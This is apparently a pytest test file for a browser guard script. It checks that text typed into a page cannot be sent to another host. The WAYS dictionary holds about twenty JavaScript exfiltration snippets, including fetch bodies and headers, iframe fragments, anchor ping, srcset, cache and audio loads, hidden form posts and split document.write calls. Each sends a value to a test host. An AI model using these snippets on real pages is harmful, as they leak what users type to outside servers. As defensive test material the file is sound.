"""Ways less travelled to somebody who may have anything but what was typed: the rest goes."""

import pytest

from scriptward.app.guard import guard_script
from scriptward.policy.language.reader import parsed
from tests.guard.test_unread import HOST, OTHER, PAGE, POLICY, TYPED

WAYS = {
    # first: a frame that has gone to another origin before anything was refused
    "frame": "const f = put('iframe', {src: AT + 'empty'});"
    "await new Promise((done) => { f.onload = done; }); f.src = u + '#' + v",
    "request": "fetch(new Request(u, {method: 'POST', mode: 'no-cors', body: v}))",
    "request-of-bytes": "fetch(new Request(u, {method: 'POST', body: new Blob([v])}))",
    "request-copied": "fetch(new Request(u, {method: 'POST', body: v}).clone())",
    "request-header": "fetch(new Request(u, {headers: {'x-v': v}}))",
    "request-in-options": "fetch(new Request(u), {method: 'POST', mode: 'no-cors', body: v})",
    "file-name": "post(form('a', new Blob(['a']), v))",
    "document": "const d = document.implementation.createHTMLDocument(v);"
    "const x = new XMLHttpRequest(); x.open('POST', u); x.send(d)",
    "view": "post(new DataView(new TextEncoder().encode('..' + v).buffer, 2))",
    "cache": "(await caches.open('a')).add(u + '&e=' + v).catch(() => 0)",
    "sound": "new Audio(u + '&e=' + v).load()",
    "list": "put('img', {sizes: '9000px', srcset: '/own.png 1w, ' + u + '&e=' + v + ' 9000w'})",
    "attribute": "const a = document.createAttribute('src'); a.value = u + '&e=' + v;"
    "put('img').attributes.setNamedItem(a)",
    "ping": "put('a', {href: '#a', ping: u + '&e=' + v}).click()",
    "slashes": "put('div').innerHTML ="
    "`<img src=\"${(u + '&e=' + v).replace('//', '&#47;&#x02F;').replaceAll('/', '&sol;')}\">`",
    "button": "const f = put('form'); f.innerHTML = `<input name=e value='${v}'><button>`;"
    "put('iframe', {name: 'into'}); f.target = 'into'; f.method = 'post';"
    "f.lastChild.formAction = u; f.lastChild.click()",
    "form": "const f = put('form', {action: u, target: 'other', method: 'post'});"
    "put('iframe', {name: 'other'}); f.innerHTML = `<input name=e value='${v}'>`; f.submit()",
    "stack": "let n = 0; const f = () => { try { f() } catch {}"
    "if (n < 5) try { fetch(u + '&e=' + v, {mode: 'no-cors'}); n++ } catch {} }; f()",
    "written": "const d = put('iframe').contentDocument; d.write('<img s'); d.write('rc=\"http:/');"
    "d.write('/', u.slice(7), '&e='); d.write(v + '\">'); d.close()",
}
HELP = """
const put = (name, as = {}) => {
  const made = Object.assign(document.createElement(name), as);
  document.body.append(made);
  return made;
};
const form = (...parts) => { const data = new FormData(); data.append(...parts); return data; };
const ways = {%s};
const tried = async (v, about) => {
  for (const [way, go] of Object.entries(ways))
    try {
      const url = AT + way + "?" + about;
      await go(v, url, (body) => fetch(url, {method: "POST", mode: "no-cors", body}));
    } catch {}
};
"""


@pytest.fixture(scope="module")
def visit(chromium, site):
    """A page on which the address was typed."""
    code = ",".join(f"'{way}': async (v, u, post) => {{ {do} }}" for way, do in WAYS.items())
    site.files["/unread-guard.js"] = guard_script(parsed(POLICY), headers=True)
    site.files["/unread.js"] = f"const AT = 'http://{HOST}/';{HELP % code}".encode()
    site.files["/corners"] = PAGE.encode()
    site.files["/empty"] = b"empty"
    site.reached.clear()
    context = chromium.new_context()
    page = context.new_page()
    page.goto("http://www.clinic.test/corners")
    page.fill("input", TYPED)
    yield page
    context.close()


@pytest.fixture(scope="module")
def reached(visit, site):
    """Paths asked for: each way with another text, and with what was typed."""
    got: set[str] = set()
    for text, about in ((TYPED, "typed"), (OTHER, "other")):
        visit.evaluate(f"tried('{text}', '{about}')")
        for _ in range(30):
            visit.wait_for_timeout(100)
            got = {path.strip("/").partition("&")[0] for path in site.reached}
            if got >= {f"{way}?other" for way in WAYS}:
                break
    return got


@pytest.mark.parametrize("way", WAYS)
def test_what_was_typed_does_not_go_round_a_corner(reached, way):
    assert f"{way}?other" in reached
    assert f"{way}?typed" not in reached


def test_what_is_written_in_pieces_stands_in_the_page_as_without_the_guard(visit):
    said = visit.evaluate(
        """() => {
            const doc = put("iframe").contentDocument;
            doc.write("<p>a < b", " and c<", "/p><i cla");
            doc.write("ss=x>d</i>");
            doc.writeln("e &#47; f");
            doc.close();
            return doc.body.innerHTML;
        }"""
    )

    assert said == '<p>a &lt; b and c</p><i class="x">d</i>e / f\n'
